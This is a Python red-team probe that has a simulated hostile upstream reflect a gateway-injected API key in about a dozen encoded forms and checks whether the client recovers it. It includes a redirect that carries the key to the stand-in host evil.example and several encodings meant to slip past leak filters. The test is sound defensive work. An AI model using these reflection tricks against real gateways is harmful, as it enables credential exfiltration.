"""Hostile upstream echoes the injected key in many shapes; does the gateway get it back?

Run: .venv/bin/python -m redteam.proxy.reflect_probe
"""
from __future__ import annotations

import gzip
import json
import urllib.parse

from redteam.proxy.harness import KEY, Lab, key_in, recv_all, show
from tests.support.raw_upstream import chunked, keyed


def sse_delta_split(k: str) -> bytes:
    half = len(k) // 2
    ev = []
    for part in (k[:half], k[half:]):
        ev.append(b"data: " + json.dumps({"choices": [{"delta": {"content": part}}]}).encode() + b"\n\n")
    ev.append(b"data: [DONE]\n\n")
    body = b"".join(ev)
    return (b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n\r\n"
            + chunked(body))


def json_escape(k: str) -> bytes:
    body = ('{"echo":"' + "".join(f"\\u{ord(c):04x}" if i == 0 else c for i, c in enumerate(k)) + '"}').encode()
    return b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n%s" % (len(body), body)


def pct(k: str) -> bytes:
    enc = "%" + format(ord(k[0]), "02X") + k[1:]
    return (b"HTTP/1.1 302 Found\r\nlocation: https://evil.example/?k=" + enc.encode()
            + b"\r\ncontent-length: 0\r\n\r\n")


def hdr_split_dup(k: str) -> bytes:
    half = len(k) // 2
    return (b"HTTP/1.1 200 OK\r\nx-a: " + k[:half].encode() + b"\r\nx-b: " + k[half:].encode()
            + b"\r\ncontent-length: 0\r\n\r\n")


def http1_trailer(k: str) -> bytes:
    return (b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\ntrailer: x-echo\r\n\r\n"
            b"2\r\nok\r\n0\r\nx-echo: " + k.encode() + b"\r\n\r\n")


def gzip_upper(k: str) -> bytes:
    body = gzip.compress(k.encode())
    return (b"HTTP/1.1 200 OK\r\ncontent-encoding: GZIP\r\ncontent-length: %d\r\n\r\n" % len(body)) + body


def gzip_te_chunked_cl(k: str) -> bytes:
    body = k.encode()
    return (b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n\r\n" % len(body)) + body


def early_hints(k: str) -> bytes:
    return (b"HTTP/1.1 103 Early Hints\r\nlink: <https://x/" + k.encode() + b">\r\n\r\n"
            b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok")


def reason_latin1(k: str) -> bytes:
    return b"HTTP/1.1 200 " + k.encode() + b"\r\ncontent-length: 2\r\n\r\nok"


def hex_body(k: str) -> bytes:
    body = k.encode().hex().encode()
    return b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n\r\n%s" % (len(body), body)


def body_html_entity(k: str) -> bytes:
    body = ("<p>&#115;" + k[1:] + "</p>").encode()
    return b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n\r\n%s" % (len(body), body)


VARIANTS = {
    "sse_delta_split": sse_delta_split,
    "json_unicode_escape": json_escape,
    "percent_encoded_location": pct,
    "header_split_two_headers": hdr_split_dup,
    "http1_chunked_trailer": http1_trailer,
    "gzip_uppercase_coding": gzip_upper,
    "plain_body": gzip_te_chunked_cl,
    "103_early_hints": early_hints,
    "reason_phrase": reason_latin1,
    "hex_body": hex_body,
    "html_entity": body_html_entity,
}


def recoverable(raw: bytes) -> bool:
    text = raw.decode("latin-1")
    if KEY in text:
        return True
    # JSON decode of any {...} / SSE deltas concatenated
    joined = ""
    for line in text.split("\n"):
        line = line.strip()
        for cand in (line, line.removeprefix("data: ")):
            try:
                obj = json.loads(cand)
            except Exception:
                continue
            s = json.dumps(obj, ensure_ascii=False)
            if KEY in s:
                return True
            try:
                joined += obj["choices"][0]["delta"]["content"]
            except Exception:
                pass
            break
    if KEY in joined:
        return True
    if KEY in urllib.parse.unquote(text):
        return True
    import html
    if KEY in html.unescape(text):
        return True
    try:
        if KEY in bytes.fromhex(text.split("\r\n\r\n", 1)[1].strip()).decode():
            return True
    except Exception:
        pass
    # header split across two headers
    import re
    a = re.search(r"x-a: (\S+)\r\n", text)
    b = re.search(r"x-b: (\S+)\r\n", text)
    if a and b and KEY == a.group(1) + b.group(1):
        return True
    return False


def main():
    lab = Lab()
    try:
        for name, fn in VARIANTS.items():
            lab.up.respond = keyed(lambda k, fn=fn: fn(k))
            mark = len(lab.sc.decisions)
            s, resp = lab.connect_tunnel(f"api.openai.com:{lab.up.port}")
            s.sendall(f"GET /v1/x HTTP/1.1\r\nHost: api.openai.com:{lab.up.port}\r\n"
                      "Authorization: Bearer sk-dummy\r\nConnection: close\r\n\r\n".encode())
            raw = recv_all(s, 3)
            s.close()
            import time; time.sleep(0.3)
            got = lab.up.received[-1].get("authorization", "") if lab.up.received else ""
            print(f"\n===== {name}: upstream got key={KEY in got} literal_in_gateway_bytes={key_in(raw)} "
                  f"recoverable_by_gateway={recoverable(raw)}")
            show("gateway received", raw[:600])
            for d in lab.decisions_since(mark):
                print("DECISION", json.dumps({k: d.get(k) for k in ("decision", "reason", "detail")}))
        print("\nkey in any sidecar output:", key_in(lab.outputs()), "metrics:", key_in(lab.metrics()))
    finally:
        lab.close()


if __name__ == "__main__":
    main()
